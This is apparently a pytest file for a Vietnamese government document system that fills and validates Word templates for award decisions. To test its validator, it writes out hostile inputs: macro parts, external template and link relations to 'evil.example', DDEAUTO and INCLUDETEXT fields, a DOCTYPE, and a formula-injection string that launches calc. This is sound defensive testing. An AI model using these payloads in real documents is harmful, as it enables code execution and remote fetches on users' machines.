"""Papers of a decision: templates filled, an office's own ones, and what is no template."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pypdf
import pytest
import sqlalchemy as sa
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from flask import Flask

from content import trail
from content.database import db
from content.errors import BadInput
from content.places import record
from content.reading import office
from content.recognition import suppression
from content.recognition.commands import papers, withdrawals
from content.recognition.models import Decision, Entry
from content.recognition.papers import checking, filling, kinds, queries
from content.trail import TrailEntry
from tests import recognised as make


@pytest.fixture(autouse=True)
def home(session_app: Flask, tmp_path: Path) -> Iterator[None]:
    suppression.keep_in(tmp_path / suppression.FILE)
    yield


@pytest.fixture
def decision(home) -> Decision:
    return make.decision(
        names=["Vàng A Chua", "Lò Văn <Mẫu> & Con"],
        place=record("xã Mẫu", "commune"),
        signer="Nguyễn Ký",
        issued=dt.date(2026, 3, 2),
    )


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def template(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        paragraph = document.add_paragraph()
        for letter in text:  # as Word may cut it: a run for each letter
            paragraph.add_run(letter)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", kinds.KINDS)
def test_each_shipped_template_is_one_and_is_filled_whole(decision, kind):
    shipped = kinds.shipped(kind)
    kinds.check(kind, shipped)
    text = text_of(kinds.made(decision, kind, shipped))
    assert "{{" not in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert ("ngày 02 tháng 3 năm 2026" in text) == (kind != "to-trinh")  # it comes before
    if kind == "to-trinh":
        assert "Nơi nhận:" in text
        assert "2 trường hợp" in text
    else:
        assert "Vàng A Chua" in text
        assert "Lò Văn <Mẫu> & Con" in text
        assert "12/QĐ-UBND" in text


def test_a_name_that_was_taken_down_stands_in_no_new_paper(decision):
    withdrawals.take_down([db.session.scalar(sa.select(Entry.id).where(Entry.position == 1))])
    annex = text_of(kinds.made(decision, "danh-sach", kinds.shipped("danh-sach")))
    assert "Vàng A Chua" not in annex
    assert kinds.TAKEN_DOWN in annex
    sheets = text_of(kinds.made(decision, "giay-cong-nhan", kinds.shipped("giay-cong-nhan")))
    assert "Vàng" not in sheets
    assert sheets.count("CÔNG NHẬN") == 1


def test_an_office_puts_its_own_in_place_and_gives_it_up(decision):
    own = template("Số {{so}} của {{ co_quan }}", "{{ten}}: {{danh_hieu_cua}}")
    assert papers.keep_template("giay-cong-nhan", "mau.docx", own) == {
        "so",
        "co_quan",
        "ten",
        "danh_hieu_cua",
    }
    text = text_of(kinds.made(decision, "giay-cong-nhan", queries.template_of("giay-cong-nhan")))
    assert "Số 12/QĐ-UBND của Chủ tịch UBND xã Mẫu\nVàng A Chua: Gia đình học tập" in text
    papers.drop_template("giay-cong-nhan")
    assert queries.template_of("giay-cong-nhan") == kinds.shipped("giay-cong-nhan")


def with_part(name: str, content: bytes) -> bytes:
    out = io.BytesIO(template("{{ten}}"))
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(name, content)
    return out.getvalue()


def holding(xml: str) -> bytes:
    """A template with a piece of Word's own in it."""
    document = docx.Document()
    document.add_paragraph("{{ten}}")._p.append(parse_xml(f"<w:r {nsdecls('w')}>{xml}</w:r>"))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def field(*said: str) -> bytes:
    """A template with a field whose words are cut as Word may cut them."""
    told = "".join(f"<w:instrText>{one}</w:instrText>" for one in said)
    return holding(f'<w:fldChar w:fldCharType="begin"/>{told}<w:fldChar w:fldCharType="end"/>')


def with_relation(kind: str, target: str, mode: str = "") -> bytes:
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    one = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    part = f'<Relationships xmlns="{rels}">{one}</Relationships>'
    return with_part("word/_rels/settings.xml.rels", part.encode())


def in_header() -> bytes:
    document = docx.Document()
    document.add_paragraph("{{ten}}")
    document.sections[0].header.paragraphs[0].text = "{{stt}}"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"not a file", "tệp Word .docx"),
        (b"PK" + bytes(5 * 2**20), "lớn hơn 5 MB"),
        (template("{{ten}}")[:900], "hỏng"),
        (template("Không có gì"), "không có chỗ trống nào"),
        (template("{{ten}} {{cccd}}"), "chỗ trống lạ “{{cccd}}”"),
        (template("{{ten}} {{so"), "mở mà không đóng"),
        (template("{{so}}"), "cần chỗ trống {{ten}}"),
        (in_header(), "“{{stt}}” không đứng được ở đầu trang"),
        (with_part("word/vbaProject.bin", b"x"), "macro"),
        (with_relation("vbaProject", "q.bin"), "macro"),
        (with_relation("attachedTemplate", "http://evil.example/x.dotm", "External"), "máy khác"),
        (with_relation("image", "http://evil.example/x.png", "external"), "máy khác"),
        (with_relation("hyperlink", "file://evil.example/x", "External"), "máy khác"),
        (with_relation("aFChunk", "a.html", "Internal"), "nhúng tệp khác"),
        (with_relation("oleObject", "a.bin", "Internal"), "nhúng tệp khác"),
        (field("DDE", "AUTO c:\\x.exe"), "“DDEAUTO”"),
        (field(" includetext http://evil.example/x"), "“INCLUDETEXT”"),
        (with_part("word/x.xml", b"<!DOCTYPE a []><a/>"), "DOCTYPE"),
    ],
)
def test_what_is_no_template_is_one_sentence_and_the_old_one_stays(home, data, said):
    with pytest.raises(BadInput, match=said):
        papers.keep_template("giay-cong-nhan", "mau.docx", data)
    assert queries.own("giay-cong-nhan") is None


@pytest.mark.parametrize(
    "harmless", [field(" PAGE "), with_relation("hyperlink", "mailto:a@b", "External")]
)
def test_the_number_of_a_page_and_an_address_may_stand_in_a_template(harmless):
    assert checking.check(harmless, ["ten"]) == {"ten"}


def test_a_list_stands_in_a_row_of_a_table(home):
    with pytest.raises(BadInput, match="phải đứng trong một hàng của bảng"):
        papers.keep_template("danh-sach", "mau.docx", template("Gồm: {{ten}}"))


def table(rows: int = 1) -> docx.document.Document:
    document = docx.Document()
    document.add_paragraph("Số {{so}}")
    made = document.add_table(rows=rows, cols=2)
    made.cell(rows - 1, 0).text, made.cell(rows - 1, 1).text = "{{ten}}", "{{so}}"
    return document


def saved(document: docx.document.Document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


STRANGE = [
    "{{so}}",
    "{{x}}",
    "=cmd|' /C calc'!A0",
    "<b>&amp;</b>",
    "Nguyễn Thị Ễ",
    "Rất " * 50,
    "a\ufffeb",
]


def test_names_of_any_kind_stay_text_and_are_nothing_more():
    rows = [{"ten": name} for name in STRANGE]
    told = docx.Document(io.BytesIO(filling.fill(saved(table()), {"so": "12"}, rows=rows)))
    names = [row.cells[0].text for row in told.tables[0].rows]
    assert names == [*STRANGE[:-1], "ab"]
    assert {row.cells[1].text for row in told.tables[0].rows} == {"12"}
    pages = filling.fill(template("{{ten}} {{so}}"), {"so": "12"}, pages=rows[:2])
    assert [p.text for p in docx.Document(io.BytesIO(pages)).paragraphs if p.text.strip()] == [
        "{{so}} 12",
        "{{x}} 12",
    ]


@pytest.mark.parametrize("count", [1, 300])
def test_only_the_row_of_the_list_is_repeated(count):
    document = table()
    inner = document.tables[0].cell(0, 0).add_table(rows=2, cols=1)  # a table within a table
    document.tables[0].cell(0, 0).paragraphs[0].text = "Danh sách"
    inner.cell(0, 0).text, inner.cell(1, 0).text = "Họ và tên", "{{ten}}"
    rows = [{"ten": f"Tên {number}"} for number in range(count)]
    told = docx.Document(io.BytesIO(filling.fill(saved(document), {"so": "12"}, rows=rows)))
    assert len(told.tables[0].rows) == 1
    names = [row.cells[0].text for row in told.tables[0].cell(0, 0).tables[0].rows]
    assert names == ["Họ và tên", *(row["ten"] for row in rows)]


def test_the_shipped_list_repeats_its_head_on_each_page(decision):
    annex = docx.Document(
        io.BytesIO(kinds.made(decision, "danh-sach", kinds.shipped("danh-sach")))
    ).tables[-1]
    heads = [row._tr.find(f".//{qn('w:tblHeader')}") is not None for row in annex.rows]
    assert heads == [True, False, False]


def test_where_somebody_lives_is_told_without_a_stray_comma(home):
    made = make.decision(names=["A"], thon=[""], place=record("xã Mẫu", "commune"))
    sheet = text_of(kinds.made(made, "giay-cong-nhan", kinds.shipped("giay-cong-nhan")))
    assert "\nxã Mẫu\n" in sheet


@pytest.mark.parametrize("kind", ["danh-sach", "giay-cong-nhan"])
def test_without_names_there_is_no_paper(home, kind):
    empty = make.decision(names=[])
    with pytest.raises(BadInput, match="chưa có tên nào"):
        papers.make(empty, kind)
    assert db.session.scalar(sa.select(sa.func.count(TrailEntry.id))) == 0


def test_a_decision_that_was_taken_back_has_no_papers(home):
    with pytest.raises(BadInput, match="đã thu hồi"):
        papers.make(make.decision(state="withdrawn"), "giay-cong-nhan")


def test_who_made_a_paper_is_known_and_no_name_of_it(decision):
    papers.make(decision, "danh-sach", actor_id=7)
    told = trail.of_subject("decision", decision.id)[0]
    assert (told.action, told.actor_id, told.detail) == ("paper.made", 7, {"kind": "danh-sach"})


def test_another_office_program_opens_a_paper_whole(decision):
    sheets = kinds.made(decision, "giay-cong-nhan", kinds.shipped("giay-cong-nhan"))
    pages = pypdf.PdfReader(io.BytesIO(office.convert(sheets, "docx", "pdf"))).pages
    assert ["Vàng A Chua" in page.extract_text() for page in pages] == [True, False]
